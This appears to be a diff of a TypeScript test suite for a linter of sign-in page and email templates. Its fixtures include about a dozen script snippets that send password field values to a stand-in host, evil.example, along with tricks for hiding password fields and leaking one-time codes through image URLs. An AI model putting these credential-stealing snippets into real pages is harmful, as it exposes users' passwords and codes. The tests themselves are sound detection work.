@@ -1,26 +1,8 @@
 import assert from 'node:assert/strict'
-import { readdirSync, readFileSync } from 'node:fs'
-import { join } from 'node:path'
 import { describe, test } from 'node:test'
 import { exampleMail, examplePage, MAIL, PAGE, SIGN_IN_PAGE } from '../../src/lint/example.ts'
-import { type Contents, type Finding, LintedMaster, Linter, type LintSettings } from '../../src/lint/lint.ts'
-
-const folder = (path: string): Contents =>
-  new Map(
-    readdirSync(path, { recursive: true, withFileTypes: true })
-      .filter(entry => entry.isFile())
-      .map(entry => join(entry.parentPath, entry.name))
-      .map(file => [file.slice(path.length + 1), { bytes: readFileSync(file) }]),
-  )
-
-const master = new LintedMaster(folder('master/templates'))
-
-const found = (files: Readonly<Record<string, string>>, settings?: LintSettings) =>
-  new Linter(
-    new Map(Object.entries(files).map(([path, text]) => [path, { bytes: Buffer.from(text) }])),
-    master,
-    settings,
-  ).findings()
+import { type Finding, Linter, type LintSettings } from '../../src/lint/lint.ts'
+import { folder, found, master } from './linting.ts'
 
 /** The findings of a rule, as `severity file:line`. */
 const told = (findings: readonly Finding[], rule: string) =>
@@ -71,10 +53,28 @@ describe('scripts of others', () => {
     const page = examplePage('<p>$LOGOUT_OK_SIGNOUT_SUCCESSFUL$</p>')
     assert.deepEqual(scripts({ [LABELS]: labels, [PAGE]: page }), ['error template_labels.properties:1'])
     const module = '<script type="module">import "https://cdn.example/x.js"</script>'
-    assert.deepEqual(scripts({ [PAGE]: examplePage(module) }), ['error logout_success.html:1'])
+    assert.deepEqual(scripts({ [PAGE]: examplePage(module) }), ['error logout_success.html:9'])
     assert.deepEqual(scripts({ [PAGE]: script('src="\\\\cdn.example/x.js"') }), [
       'error logout_success.html:7',
     ])
+  })
+
+  test('are found in the strings of scripts and event handlers that load them', () => {
+    const loading = 's.src = "https://cdn.example/x.js?v=1"'
+    assert.deepEqual(scripts({ [PAGE]: examplePage(`<script>${loading}</script>`) }), [
+      'error logout_success.html:9',
+    ])
+    const handler = `<button type="button" onclick='import("//cdn.example/x.mjs")'>$PRODUCT_NAME$</button>`
+    assert.deepEqual(scripts({ [PAGE]: examplePage(handler) }), ['error logout_success.html:9'])
+    assert.deepEqual(scripts({ 'common/static/js/a.js': `${loading}\n` }), ['warning a.js:1'])
+    const allowed = { allowed: { scriptOrigins: ['https://cdn.example'] } }
+    assert.deepEqual(scripts({ 'common/static/js/a.js': `${loading}\n` }, allowed), [])
+    for (const text of [
+      '"https://www.example.com/help"',
+      '"/template/v1.0/static/js/x.js"',
+      '// https://a.example/x.js',
+    ])
+      assert.deepEqual(scripts({ [PAGE]: examplePage(`<script>const x = ${text}\n</script>`) }), [], text)
   })
 
   test('are those of the service where they begin with its address', () => {
@@ -156,12 +156,127 @@ describe('forms', () => {
     assert.equal(everywhere?.states, undefined)
   })
 
+  test('lack a field that browsers make no field of, or that nobody can fill in', () => {
+    const page = signIn('action="@ACTION@"')
+    const field = /<input type="password"[^>]*>/
+    for (const instead of [
+      '<svg>$&</svg>',
+      '<template>$&</template>',
+      '<!-- $& -->',
+      '<div style="display: none">$&</div>',
+      '<div style="display:/**/none">$&</div>',
+      '<div style="display: block; disp\\6c ay: none">$&</div>',
+      '<fieldset disabled>$&</fieldset>',
+      '</form>$&',
+    ])
+      assert.deepEqual(
+        [
+          ...new Set(
+            found({ [SIGN_IN_PAGE]: page.replace(field, instead) })
+              .map(({ rule }) => rule)
+              .filter(rule => rule.startsWith('form/required')),
+          ),
+        ],
+        ['form/required-field'],
+        instead,
+      )
+  })
+
   test('are finished by scripts of the service where they load them', () => {
     const page = examplePage(`<p>@ERROR_MESSAGE@</p>
 <form id="combined-form" method="post" action=""><input name="otp"><button>$OTP_LOGIN_SUBMIT$</button></form>
 <form method="post" action="@ACTION@"><button name="operation" value="restart">$USE_ANOTHER_METHOD$</button></form>
 <script src="/authsvc/mtfim/sps/static/totp_login.js"></script>`)
     assert.deepEqual(found({ [CODE_PAGE]: page }), [])
+  })
+})
+
+describe('scripts on pages that ask for a password', () => {
+  const requests = (files: Record<string, string>, settings?: LintSettings) =>
+    told(found(files, settings), 'form/external-request')
+  const inline = (code: string) =>
+    requests({ [SIGN_IN_PAGE]: signIn('action="@ACTION@"', `\n<script>\n${code}\n</script>`) })
+
+  for (const code of [
+    `fetch('https://evil.example/x', { method: 'POST', body: new FormData(form) })`,
+    'navigator.sendBeacon("//evil.example/x", input.value)',
+    `const x = new XMLHttpRequest(); x.open('POST', "https://evil.example/x"); x.send(input.value)`,
+    `const to = 'https://evil.example/x'\nform.onsubmit = () => fetch(to, { body: form.elements.password.value })`,
+    `const paths = { to: 'https://evil.example/x' }; fetch(paths.to + '?' + input.value)`,
+    `new WebSocket('wss://evil.example/x').send(input.value)`,
+    `$.post('https://evil.example/x', $('form').serialize())`,
+    `$.ajax({ url: 'https://evil.example/x', data: $('#password').val() })`,
+    `location.href = 'https://evil.example/?p=' + input.value`,
+    `new Image().src = \`https://evil.example/?p=\${input.value}\``,
+    `form.action = 'https://evil.example/x'; note(input.value)`,
+  ])
+    test(`must not send it elsewhere: ${code}`, () => {
+      assert.deepEqual(inline(code), ['error cloud_directory_login.html:14'])
+    })
+
+  for (const code of [
+    `fetch('/v1.0/thing', { body: input.value })`,
+    `fetch('https://@TENANT@/thing', { body: input.value })`,
+    `fetch(form.action, { body: new FormData(form) }); const help = 'https://www.example.com/help'`,
+    `help.href = 'https://www.example.com/help'; button.disabled = input.value === ''`,
+    `location.href = 'https://www.example.com/help'; note(input.value)`,
+    `fetch('https://status.example/now').then(show)`,
+    `// fetch('https://evil.example/x')\nnote(input.value)`,
+  ])
+    test(`may do other things: ${code}`, () => assert.deepEqual(inline(code), []))
+
+  test('must not do it in an event handler, in a file or in a footer', () => {
+    const handler = `<button type="button" onclick="fetch('https://evil.example/', { body: form.password.value })">$LOGIN_BUTTON$</button>`
+    assert.deepEqual(requests({ [SIGN_IN_PAGE]: signIn('action="@ACTION@"', handler) }), [
+      'error cloud_directory_login.html:13',
+    ])
+    const sending = `note()\nfetch('https://evil.example/', { body: input.value })\n`
+    const loading = '<script defer src="/template/v1.0/static/js/own.js?themeId=@THEME_ID@"></script>'
+    const file = { 'common/static/js/own.js': sending }
+    assert.deepEqual(requests({ ...file, [SIGN_IN_PAGE]: signIn('action="@ACTION@"', loading) }), [
+      'error own.js:2',
+    ])
+    assert.deepEqual(requests({ ...file, [FOOTER]: loading }), ['error own.js:2'])
+    assert.deepEqual(requests({ ...file, [PAGE]: examplePage(loading) }), [], 'a page that asks for nothing')
+    assert.deepEqual(requests({ 'common/static/js/forms.js': sending }), ['error forms.js:2'])
+    assert.deepEqual(requests({ [FOOTER]: `<script>${sending}</script>` }), ['error page_footer.html:1'])
+    assert.deepEqual(requests({ [PAGE]: examplePage(`<script>${sending}</script>`) }), [])
+  })
+
+  test('may do it where the origin is allowed, and a comment allows nothing', () => {
+    const silenced = signIn(
+      'action="@ACTION@"',
+      `\n<!-- tabard-lint-disable form/external-request: ours -->
+<script>fetch('https://ours.example/', { body: input.value })</script>`,
+    )
+    const allowed = { allowed: { scriptOrigins: ['https://ours.example'] } }
+    assert.deepEqual(requests({ [SIGN_IN_PAGE]: silenced }), ['error cloud_directory_login.html:15'])
+    assert.deepEqual(requests({ [SIGN_IN_PAGE]: silenced }, allowed), [])
+  })
+})
+
+describe('scripts that a page waits for', () => {
+  const PLAIN = '<script src="/template/v1.0/static/js/forms.js?themeId=@THEME_ID@"></script>\n'
+  const waits = (body: string, others: Record<string, string> = {}) =>
+    told(found({ [PAGE]: examplePage(body, PLAIN), ...others }), 'remote/parser-blocking')
+  const FOUND = ['recommendation logout_success.html:7']
+
+  test('are left as they are where a script in the page, its header or its footer may need them', () => {
+    const inline = '<script>start()</script>'
+    const second = PLAIN.replace('forms', 'show-password')
+    assert.deepEqual(waits('<p>$PRODUCT_NAME$</p>@PAGE_FOOTER@'), FOUND)
+    assert.deepEqual(waits(inline), [])
+    assert.deepEqual(waits(second), [])
+    assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER]: inline }), [])
+    assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER]: second }), [])
+    assert.deepEqual(waits('@PAGE_HEADER@', { [FOOTER]: inline }), FOUND, 'a footer that is not there')
+    assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER.replace('/default/', '/de/')]: inline }), [])
+  })
+
+  test('are found where what follows them waits as well, or is no script', () => {
+    for (const more of ['<script type="module">x()</script>', '<script type="application/json">{}</script>'])
+      assert.deepEqual(waits('@PAGE_FOOTER@', { [FOOTER]: more }), FOUND, more)
+    assert.deepEqual(waits(PLAIN.replace('<script', '<script defer')), FOUND)
   })
 })
 
@@ -230,15 +345,38 @@ describe('mails', () => {
 
   test('must show their code where people see it', () => {
     const lacking = ['error otp_delivery_email.xml:1']
-    for (const message of ['<!-- @OTP@ -->', '<p hidden>@OTP@</p>', '<p title="@OTP@">$PRODUCT_NAME$</p>'])
+    for (const message of ['<!-- @OTP@ -->', '<p hidden>@OTP@</p>'])
       assert.deepEqual(needed(MAIL, `<p>$PRODUCT_NAME$</p>${message}`), lacking)
+    assert.deepEqual(needed(MAIL, '<p title="@OTP@">$PRODUCT_NAME$</p>'), [
+      ...lacking,
+      'error otp_delivery_email.xml:6',
+    ])
     assert.deepEqual(needed(MAIL, '<p><b>@OTP@</b></p>'), [])
   })
 
   test('may have their link as an address or as a text', () => {
     assert.deepEqual(needed(RECOVERY, '<a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a>'), [])
     assert.deepEqual(needed(RECOVERY, '<p>@PASSWORD_RECOVERY_LINK@</p>'), [])
-    assert.deepEqual(needed(RECOVERY, '<p>$PRODUCT_NAME$</p>'), ['error password_recovery_email.xml:1'])
+    const lacking = ['error password_recovery_email.xml:1']
+    assert.deepEqual(needed(RECOVERY, '<p>$PRODUCT_NAME$</p>'), lacking)
+    const hidden = '<p hidden><a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a></p>'
+    assert.deepEqual(needed(RECOVERY, hidden), lacking)
+  })
+
+  test('must not have their code or link where it could be sent to somebody else', () => {
+    const place = ['error otp_delivery_email.xml:6']
+    for (const attribute of [
+      '<img src="https://images.example/?c=@OTP@" alt="" width="1" height="1">',
+      '<a href="https://www.example.com/@OTP@">$PRODUCT_NAME$</a>',
+      '<a href="@OTP@">$PRODUCT_NAME$</a>',
+      '<p style="background: url(https://images.example/@OTP@)">$PRODUCT_NAME$</p>',
+    ])
+      assert.deepEqual(needed(MAIL, `<p>@OTP@</p>${attribute}`), place, attribute)
+    const link = '<a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a>'
+    assert.deepEqual(needed(RECOVERY, `${link}<a href="@PASSWORD_RECOVERY_LINK@&amp;x=1">x</a>`), [
+      'error password_recovery_email.xml:6',
+    ])
+    assert.deepEqual(needed(RECOVERY, `${link}<p>@PASSWORD_RECOVERY_LINK@</p>`), [])
   })
 
   test('name the language in which their code is missing', () => {
